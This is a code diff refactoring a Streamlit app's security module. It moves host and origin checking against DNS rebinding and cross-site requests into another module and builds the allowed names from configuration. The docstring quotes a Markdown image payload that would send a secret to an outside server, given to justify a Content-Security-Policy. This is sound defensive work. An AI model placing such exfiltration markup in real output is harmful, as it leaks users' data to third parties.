@@ -1,8 +1,8 @@
 """Security: which requests the app answers, and what a browser may load for its pages.
 
-`OwnOriginOnly` refuses requests from other sites' pages (another Origin) and requests for another
-name (another Host, as in DNS rebinding). `SecurityHeaders` adds a Content-Security-Policy to every
-response, because answers and documents are untrusted text, and Markdown such as
+`names` gives the names of the app, by which `OwnOriginOnly` (engine/api/origin.py) refuses requests
+for another name and from other sites' pages. `SecurityHeaders` adds a Content-Security-Policy to
+every response, because answers and documents are untrusted text, and Markdown such as
 `![](http://elsewhere/?q=secret)` would send data to another server. Escaping chunks can miss markup
 that is split over two of them; a policy in the browser cannot.
 """
@@ -11,15 +11,13 @@ import base64
 import hashlib
 import re
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import streamlit
-from starlette.datastructures import Headers, MutableHeaders
-from starlette.responses import PlainTextResponse
+from starlette.datastructures import MutableHeaders
 from starlette.types import ASGIApp, Message, Receive, Scope, Send
 from streamlit import config
 
-LOOPBACK = ("localhost", "127.0.0.1", "::1")
+from engine.api.origin import Names
 
 _INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
 
@@ -75,68 +73,21 @@ class SecurityHeaders:
         await self._app(scope, receive, send_with_headers)
 
 
-class OwnOriginOnly:
-    """ASGI middleware that answers only requests for this app from this app's own pages.
+def names(port: int | None) -> Names:
+    """What the app is called that is bound to this port, from Streamlit's configuration.
 
-    Host must be localhost at the app's port, or a name that the configuration has: in
-    server.address, browser.serverAddress or server.allowedHosts. Origin, which browsers send with
-    WebSockets and with requests from other sites, must be that same host or be listed in
-    server.corsAllowedOrigins.
+    Host must be localhost at the app's port, or a name in server.address, browser.serverAddress or
+    server.allowedHosts. Origin must be that same host, or be listed in server.corsAllowedOrigins.
     """
-
-    def __init__(self, app: ASGIApp) -> None:
-        self._app = app
-
-    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
-        if scope["type"] not in ("http", "websocket"):
-            await self._app(scope, receive, send)
-            return
-        headers = Headers(scope=scope)
-        host, origin = headers.get("host", ""), headers.get("origin")
-        if not is_own_host(host, _ports(scope)):
-            reason = "This app does not answer under this name. Open it at the address that it "
-            reason += "printed when it was started, or add the name to server.allowedHosts."
-        elif origin is not None and not is_own_origin(origin, host):
-            reason = "Another site's page may not use this app."
-        else:
-            await self._app(scope, receive, send)
-            return
-        if scope["type"] == "http":
-            await PlainTextResponse(reason, 403)(scope, receive, send)
-        else:
-            await send({"type": "websocket.close", "code": 1008, "reason": reason[:120]})
-
-
-def is_own_host(host: str, ports: set[int]) -> bool:
-    """Whether a Host header names this app, which answers on these ports."""
-    try:
-        parts = urlsplit(f"//{host}")
-        name, port = (parts.hostname or "").rstrip("."), parts.port
-    except ValueError:
-        return False
-    if parts.netloc != host or "@" in host or not name:
-        return False
-    if name in LOOPBACK:
-        return (port or 80) in ports
-    address = str(config.get_option("server.address") or "")
-    if name in {address.lower(), str(config.get_option("browser.serverAddress")).lower()}:
-        return True
-    for allowed in (each.strip().lower() for each in config.get_option("server.allowedHosts")):
-        if allowed == "*" or name == allowed:
-            return True
-        if allowed.startswith("*.") and name.endswith(allowed[1:]):
-            return True
-    return False
-
-
-def is_own_origin(origin: str, host: str) -> bool:
-    """Whether an Origin header is that of the app's own pages at this host, or a configured one."""
-    listed = {each.strip() for each in config.get_option("server.corsAllowedOrigins")}
-    return origin in {f"http://{host}", f"https://{host}"} | listed
-
-
-def _ports(scope: Scope) -> set[int]:
-    """The ports under which browsers reach the app."""
-    bound = scope["server"][1] if scope.get("server") else None
-    shown = config.get_option("browser.serverPort")
-    return {int(port) for port in (bound, shown) if port}
+    ports = (port, config.get_option("browser.serverPort"))
+    hosts = [
+        config.get_option("server.address") or "",
+        config.get_option("browser.serverAddress"),
+        *config.get_option("server.allowedHosts"),
+    ]
+    origins = config.get_option("server.corsAllowedOrigins")
+    return Names(
+        frozenset(int(each) for each in ports if each),
+        tuple(name for each in hosts if (name := str(each).strip().lower())),
+        tuple(each.strip() for each in origins),
+    )
